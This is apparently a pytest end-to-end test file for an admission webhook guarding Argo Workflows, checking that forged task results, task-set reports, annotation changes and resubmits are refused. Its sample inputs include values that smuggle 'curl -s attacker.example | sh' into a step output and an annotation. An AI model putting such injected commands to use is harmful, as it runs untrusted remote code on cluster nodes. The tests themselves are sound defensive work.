"""Each write tied to its real writer, behind argo-admission, on the Argo version under test.

A task result is written by its node's own pod, with a token bound to that pod (the tests mint
it through the TokenRequest API as the kubelet does); a pod of another Workflow of the same
account, a token bound to no pod, or a user's DELETE while the Workflow runs is refused. Under
Secure a label or annotation a later step reads does not change while the Workflow runs, and
those nothing reads stay free. A Workflow claiming to be a resubmit has the spec Argo's resubmit
copies. Each refusal has its twin, Argo's own write of the same object, admitted and carried out;
test_argo_without_webhook.py shows what each refused write does without the door.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest
from kubernetes import client as k8s

from admission.core.podnames import fnv32a, node_id
from argocli import ArgoCLI
from argocontroller import WorkflowController
from expect import NS, refused
from forgeries import memoized_resubmit_of
from harness.processes import wait_for
from kubelet import (
    PodExecutor,
    complete_outputs,
    finish_pod,
    finish_step,
    patch_task_result,
    report_outputs,
    step_node_name,
    wait_for_step_pod,
)
from library import create_library, submit_ref, submit_to_approval
from webhook import DENIED
from workflows import (
    API_VERSION,
    GROUP,
    VERSION,
    WORKFLOW_LABEL,
    create,
    custom,
    find_node,
    get_workflow,
    main_args,
    node_phase,
    wait_for_node,
    wait_for_phase,
    wait_for_pods,
)

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.argo,
    pytest.mark.usefixtures("controller_is_never_refused"),
]

FORGED = {"parameters": [{"name": "out", "value": "clean; curl -s attacker.example | sh"}]}
OWN = {"parameters": [{"name": "out", "value": "from-its-own-pod"}]}


def refusal_of(rule: str, message: str) -> None:
    """Assert the door refused, by `rule`."""
    assert message.startswith(DENIED), message
    assert rule in message, f"the refusal is not {rule}: {message}"


def at_produce(alice: k8s.ApiClient, admin: k8s.ApiClient, argo: ArgoCLI) -> tuple[str, dict]:
    """Alice's relay, approved, its produce pod created: (name, produce's pod)."""
    return at_produce_of(alice, admin, argo, create_library(admin, NS, "relay", "toolbox")["relay"])


def at_produce_of(
    alice: k8s.ApiClient, admin: k8s.ApiClient, argo: ArgoCLI, relay: str
) -> tuple[str, dict]:
    """Alice's Workflow of relay `relay`, approved, its produce pod created."""
    name = submit_to_approval(alice, admin, NS, relay)
    argo("resume", name)
    return name, wait_for_step_pod(admin, NS, name, "produce")


def results_of(admin: k8s.ApiClient, workflow: str) -> list[dict[str, Any]]:
    """The WorkflowTaskResults labelled with `workflow`."""
    answer = custom(admin).list_namespaced_custom_object(
        GROUP, VERSION, NS, "workflowtaskresults", label_selector=f"{WORKFLOW_LABEL}={workflow}"
    )
    return list(answer["items"])


def test_the_pod_of_a_node_is_named_as_argo_names_it(
    strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, argo: ArgoCLI
) -> None:
    """Pod-name v2, the controller's default: <workflow>-<template>-<fnv32a(node name)>, the
    name the door expects a result's writer to be bound to (GeneratePodName)."""
    name, pod = at_produce(alice, admin, argo)
    node = step_node_name(name, 1, "produce")
    assert pod["metadata"]["name"] == f"{name}-produce-{fnv32a(node)}"
    assert (
        get_workflow(admin, NS, name)["metadata"]["annotations"][
            "workflows.argoproj.io/pod-name-format"
        ]
        == "v2"
    )


def test_a_task_result_from_another_workflows_pod_is_refused_and_its_own_pods_taken(
    strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """Both Workflows' pods run as team-a's `default`: the account is the same, the pod is not.
    The result created with the token of the other Workflow's produce pod is refused; the one
    from the victim's own produce pod is taken, and consume gets it."""
    victim, victim_pod = at_produce(alice, admin, argo)
    _, other_pod = at_produce(alice, admin, argo)
    node = step_node_name(victim, 1, "produce")
    workflow = get_workflow(admin, NS, victim)
    attacker = executor.bound_client(other_pod)
    message = refused(lambda: report_outputs(attacker, workflow, node, FORGED))
    refusal_of("[task-result]", message)
    assert f"not by pod {other_pod['metadata']['name']}" in message
    assert f"({victim_pod['metadata']['name']})" in message
    result = report_outputs(executor, workflow, node, OWN)
    complete_outputs(executor, NS, result)
    finish_pod(admin, victim_pod)
    assert main_args([wait_for_step_pod(admin, NS, victim, "consume")]) == [["from-its-own-pod"]]


def test_a_task_result_without_a_pod_claim_is_refused(
    strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor_account: k8s.ApiClient,
    argo: ArgoCLI,
) -> None:
    """The executor's account with a token bound to no pod (a token Secret, an impersonation)."""
    name, _ = at_produce(alice, admin, argo)
    message = refused(
        lambda: report_outputs(
            executor_account,
            get_workflow(admin, NS, name),
            step_node_name(name, 1, "produce"),
            FORGED,
        )
    )
    refusal_of("[task-result]", message)
    assert "shows no pod" in message and "taskResultWriters: ServiceAccount" in message


def test_a_running_workflows_task_result_is_not_patched_by_another_pod_nor_deleted_by_a_user(
    strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """The victim's executor has reported, not yet complete: another Workflow's pod may not
    patch the result, alice may not delete it (to create it again). Its own pod patches it
    complete; the step's output is its own; once the Workflow has succeeded the controller
    deletes the results itself (deleteTaskResults), admitted."""
    victim, victim_pod = at_produce(alice, admin, argo)
    _, other_pod = at_produce(alice, admin, argo)
    result = report_outputs(
        executor, get_workflow(admin, NS, victim), step_node_name(victim, 1, "produce"), OWN
    )
    attacker = executor.bound_client(other_pod)
    refusal_of(
        "[task-result]",
        refused(lambda: patch_task_result(attacker, NS, result, {"outputs": FORGED})),
    )
    message = refused(
        lambda: custom(alice).delete_namespaced_custom_object(
            GROUP, VERSION, NS, "workflowtaskresults", result
        )
    )
    refusal_of("[task-result]", message)
    assert "which is still running; alice may not delete it" in message
    message = refused(
        lambda: custom(alice).delete_collection_namespaced_custom_object(
            GROUP, VERSION, NS, "workflowtaskresults", label_selector=f"{WORKFLOW_LABEL}={victim}"
        )
    )
    refusal_of("[task-result]", message)
    complete_outputs(executor, NS, result)
    finish_pod(admin, victim_pod)
    assert main_args([wait_for_step_pod(admin, NS, victim, "consume")]) == [["from-its-own-pod"]]
    finish_step(executor, admin, NS, victim, 2, "consume")
    wait_for_phase(admin, NS, victim, ["Succeeded"])
    wait_for(
        lambda: results_of(admin, victim),
        until=lambda found: found == [],
        what=f"the controller to delete {victim}'s task results",
    )


def test_an_annotation_a_later_step_reads_does_not_change_and_others_are_free(
    secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, argo: ArgoCLI
) -> None:
    """notify runs `--channel {{workflow.annotations.channel}}` after approve: alice's change of
    `channel` while it waits is refused, naming the reference; an annotation and a label that
    nothing reads change (kubectl annotate / label); notify runs with the submitted channel."""
    library = create_library(admin, NS, "notify")
    name = submit_to_approval(alice, admin, NS, library["notify"], annotations={"channel": "ops"})
    workflows = custom(alice)
    message = refused(
        lambda: workflows.patch_namespaced_custom_object(
            GROUP,
            VERSION,
            NS,
            "workflows",
            name,
            {"metadata": {"annotations": {"channel": "ops; curl -s attacker.example | sh"}}},
        )
    )
    refusal_of("[secure]", message)
    assert "{{workflow.annotations.channel}}" in message
    workflows.patch_namespaced_custom_object(
        GROUP,
        VERSION,
        NS,
        "workflows",
        name,
        {"metadata": {"annotations": {"note": "seen"}, "labels": {"reviewed": "yes"}}},
    )
    argo("resume", name)
    assert main_args([wait_for_step_pod(admin, NS, name, "notify")]) == [["--channel", "ops"]]


def test_a_resubmit_with_another_template_than_its_original_is_refused(
    strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, argo: ArgoCLI
) -> None:
    """Alice's Failed relay, then a Workflow labelled as its resubmit, carrying its stored
    templates as a resubmit does, but referencing another library template: refused, naming
    the reference. Argo's own resubmit of the same origin is admitted and runs."""
    library = create_library(admin, NS, "relay", "toolbox", "gate")
    origin = submit_to_approval(alice, admin, NS, library["relay"])
    argo("terminate", origin)
    stored = wait_for_phase(admin, NS, origin, ["Failed"])
    forged = {
        "apiVersion": API_VERSION,
        "kind": "Workflow",
        "metadata": {
            "generateName": f"{origin}-",
            "namespace": NS,
            "labels": {"workflows.argoproj.io/resubmitted-from-workflow": origin},
        },
        "spec": {"workflowTemplateRef": {"name": library["gate"]}},
        "status": {"storedTemplates": copy.deepcopy(stored["status"].get("storedTemplates") or {})},
    }
    assert forged["status"]["storedTemplates"], "the origin stored no templates"
    message = refused(lambda: create(alice, forged))
    refusal_of("[resubmit]", message)
    assert "spec.workflowTemplateRef differs from the original Workflow" in message
    name = argo("resubmit", origin, "-o", "name").strip().splitlines()[-1].strip()
    wait_for_node(admin, NS, name, "approve", ["Running"])


def test_a_task_sets_status_from_a_step_pod_is_refused_and_the_agent_pods_taken(
    strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """An HTTP step: the controller creates the task set and the agent pod
    (`<NodeID("agent")>-agent`). Another Workflow's step pod, same account, may not report the
    call; the agent pod's report is taken and the step succeeds with it."""
    library = create_library(admin, NS, "caller", "relay", "toolbox")
    _, other_pod = at_produce(alice, admin, argo)
    name = submit_ref(
        alice,
        admin,
        NS,
        library["caller"],
        lambda wf: node_phase(wf, "call") in ("Pending", "Running"),
        what="to have step call started",
    )
    agent = wait_for_pods(
        admin,
        NS,
        name,
        lambda pods: [
            p for p in pods if p["metadata"]["name"] == f"{name}-{fnv32a('agent')}-agent"
        ],
        what="to include the agent pod",
    )[0]
    node = node_id(name, step_node_name(name, 0, "call"))
    report = {"status": {"nodes": {node: {"phase": "Succeeded", "outputs": {"result": "200"}}}}}

    def as_pod(pod: dict[str, Any]) -> Any:
        return custom(executor.bound_client(pod)).patch_namespaced_custom_object_status(
            GROUP, VERSION, NS, "workflowtasksets", name, report
        )

    message = refused(lambda: as_pod(other_pod))
    refusal_of("[task-set]", message)
    assert f"written by its agent pod ({agent['metadata']['name']})" in message
    as_pod(agent)
    workflow = wait_for_node(admin, NS, name, "call", ["Succeeded"])
    assert find_node(workflow, "call")["outputs"]["result"] == "200"


def test_a_memoized_resubmit_after_its_library_template_changed_is_refused_saying_what_to_do(
    strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """The origin ran produce from the toolbox as it was; the library's author then changed
    produce. `argo resubmit --memoized` copies the origin's stored templates, which would run
    the old produce: refused, saying to resubmit without --memoized, which then runs."""
    library = create_library(admin, NS, "relay", "toolbox")
    origin, produce = at_produce_of(alice, admin, argo, library["relay"])
    result = report_outputs(
        executor, get_workflow(admin, NS, origin), step_node_name(origin, 1, "produce"), OWN
    )
    complete_outputs(executor, NS, result)
    finish_pod(admin, produce)
    wait_for_step_pod(admin, NS, origin, "consume")
    argo("terminate", origin)
    wait_for_phase(admin, NS, origin, ["Failed"])
    toolbox = custom(admin).get_namespaced_custom_object(
        GROUP, VERSION, NS, "workflowtemplates", library["toolbox"]
    )
    toolbox["spec"]["templates"][0]["container"]["args"] = ["echo changed > /tmp/out"]
    custom(admin).replace_namespaced_custom_object(
        GROUP, VERSION, NS, "workflowtemplates", library["toolbox"], toolbox
    )
    failure = argo.run("resubmit", "--memoized", origin)
    assert failure.returncode != 0, failure.stdout
    assert "edited since the original Workflow" in failure.stderr, failure.stderr
    assert "resubmit without --memoized" in failure.stderr
    name = argo("resubmit", origin, "-o", "name").strip().splitlines()[-1].strip()
    wait_for_node(admin, NS, name, "approve", ["Running"])


def test_a_memoized_resubmit_of_another_template_is_refused_and_argos_own_runs(
    strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """The nodes `argo resubmit --memoized` would write, the origin's produce output in them,
    but a ref to another relay: refused, naming the ref. Argo's own memoized resubmit of the
    origin skips produce and hands its output to consume."""
    mine = create_library(admin, NS, "relay", "toolbox")
    theirs = create_library(admin, NS, "relay", "toolbox")
    origin, produce = at_produce_of(alice, admin, argo, mine["relay"])
    result = report_outputs(
        executor, get_workflow(admin, NS, origin), step_node_name(origin, 1, "produce"), OWN
    )
    complete_outputs(executor, NS, result)
    finish_pod(admin, produce)
    wait_for_step_pod(admin, NS, origin, "consume")
    argo("terminate", origin)
    forged = memoized_resubmit_of(wait_for_phase(admin, NS, origin, ["Failed"]), theirs["relay"])
    message = refused(lambda: create(alice, forged))
    refusal_of("[resubmit]", message)
    assert "spec.workflowTemplateRef differs from the original Workflow" in message
    name = argo("resubmit", "--memoized", origin, "-o", "name").strip().splitlines()[-1].strip()
    wait_for_node(admin, NS, name, "approve", ["Running"])
    argo("resume", name)
    assert main_args([wait_for_step_pod(admin, NS, name, "consume")]) == [["from-its-own-pod"]]
